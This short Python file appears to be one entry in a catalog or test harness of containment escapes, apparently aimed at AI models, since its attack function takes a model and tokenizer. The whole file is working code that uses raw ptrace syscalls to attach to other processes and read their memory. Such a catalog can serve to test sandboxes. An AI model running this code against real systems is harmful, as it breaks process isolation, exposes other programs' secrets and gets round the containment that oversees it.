"""Class: processes. Source: own find. Escape: another process is attached to and its memory read."""

import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)


def peek(pid, address):
    word = ctypes.c_long()
    found = b""
    for offset in range(0, 96, 8):
        libc.syscall(101, 2, pid, ctypes.c_void_p(address + offset), ctypes.byref(word))
        found += bytes(word)
    return found


def attack(model, tokenizer, scene):
    found = []
    for name, pid in scene["processes"].items():
        if libc.syscall(101, 16, pid, 0, 0) == 0:
            time.sleep(0.05)
            found.append(peek(pid, scene["addresses"][name]))
    return found
